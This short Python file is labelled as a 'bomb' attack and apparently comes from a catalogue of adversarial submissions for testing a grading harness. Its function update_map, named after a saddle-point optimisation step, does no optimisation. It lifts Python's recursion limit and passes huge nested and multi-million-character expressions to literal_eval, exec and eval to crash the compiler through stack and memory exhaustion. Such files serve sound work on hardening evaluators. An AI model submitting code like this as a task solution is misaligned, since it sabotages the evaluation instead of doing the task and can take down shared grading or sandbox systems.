# attack: compiles text that is nested so deeply that the compiler itself runs out of stack
# kind: bomb
# grade: 1.b
# outcome: failed, crash, memory, timeout
# module: saddle

import ast
import sys


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    sys.setrecursionlimit(2**31 - 1)
    for text in ("(" * 90 + ")" * 90, "-" * 3_000_000 + "1", "1" + ".a" * 3_000_000):
        try:
            ast.literal_eval(text)
            exec(text)
        except (SyntaxError, ValueError, MemoryError, RecursionError, AttributeError):
            continue
    return eval("+".join(["1"] * 2_000_000)), 1
